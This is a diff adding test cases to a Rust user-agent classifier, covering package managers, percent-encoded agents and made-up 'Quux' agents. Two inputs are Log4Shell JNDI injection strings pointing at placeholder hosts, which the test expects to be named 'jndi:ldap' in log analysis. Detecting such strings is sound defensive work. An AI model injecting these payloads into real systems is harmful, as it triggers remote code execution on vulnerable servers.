@@ -37,6 +37,24 @@ fn browsers_are_named_by_their_brand_not_their_engine() {
 }
 
 #[test]
+fn logs_06_package_managers_attacks_and_percent_coded_agents_are_named() {
+    for (agent, want) in [
+        ("Ruby, RubyGems/3.3.7 x86_64-linux Ruby/3.1.2 (2022-04-12 patchlevel 20)", "RubyGems"),
+        ("bundler/2.3.7 rubygems/3.3.7 ruby/3.1.2 (x86_64-pc-linux-gnu) command/install", "Bundler"),
+        ("Ruby", "Ruby"),
+        ("${jndi:ldap://192.0.2.9:1389/a}", "jndi:ldap"),
+        ("Mozilla/5.0 ${jndi:ldap://example.com/a}", "jndi:ldap"),
+        ("curl%2F8.0", "curl"),
+        (
+            "Mozilla/5.0%20(Windows%20NT%2010.0;%20Win64;%20x64)%20AppleWebKit/537.36%20(KHTML,%20like%20Gecko)%20Chrome/120.0.0.0%20Safari/537.36",
+            "Chrome",
+        ),
+    ] {
+        assert_eq!(name(agent), want, "{agent}");
+    }
+}
+
+#[test]
 fn bots_and_tools_are_named_by_themselves() {
     for (agent, expected, class) in [
         ("curl/8.5.0", "curl", Class::Tool),
@@ -142,6 +160,10 @@ fn the_class_of_an_unknown_name_follows_from_the_evidence() {
         ("Quux/1.0 (quux@quux.example)".to_owned(), Class::Bot),
         ("Quux/1.0 (the Quux crawler)".to_owned(), Class::Bot),
         ("Quux/1.0 (uptime monitoring)".to_owned(), Class::Bot),
+        ("Quux/1.0 QuuxMetadataFetch/2.0".to_owned(), Class::Bot),
+        (format!("{chrome} Quux/Synthetics"), Class::Bot),
+        // A telephone that a crawler claims to be.
+        ("DoCoMo/2.0 P900i(c100;TB) (compatible; Quux/mobile)".to_owned(), Class::Bot),
         // A device of a person, against a program.
         ("Quux/1.0 (Linux; Android 15; Pixel 9)".to_owned(), Class::App),
         ("Quux Monitor/1.0 (iPhone; iOS 18.1)".to_owned(), Class::App),
@@ -150,8 +172,15 @@ fn the_class_of_an_unknown_name_follows_from_the_evidence() {
         ("Quux/1.0 (linux/amd64)".to_owned(), Class::Tool),
         ("Quux/1.0 Go/1.22".to_owned(), Class::Tool),
         ("Quux/1.0 quux-http-client/2.0".to_owned(), Class::Tool),
+        ("Quux/1.0 (Linux)".to_owned(), Class::Tool),
+        ("Quux/1.0 (C++/QuuxHttpClient)".to_owned(), Class::Tool),
+        ("quux.rb 8.0".to_owned(), Class::Tool),
         // Nothing but a name.
-        ("quux/1.2".to_owned(), Class::Tool),
+        ("Quux/1.2-SNAPSHOT".to_owned(), Class::Tool),
+        ("Quux Site/1.2.3".to_owned(), Class::Bot),
+        ("quux/7".to_owned(), Class::Tool),
+        ("quux-fetch/1.2".to_owned(), Class::Tool),
+        ("Quux/7".to_owned(), Class::Bot),
         ("Quux/1.2.3".to_owned(), Class::Tool),
         ("Quux/1.2".to_owned(), Class::Bot),
         ("Quux".to_owned(), Class::Bot),
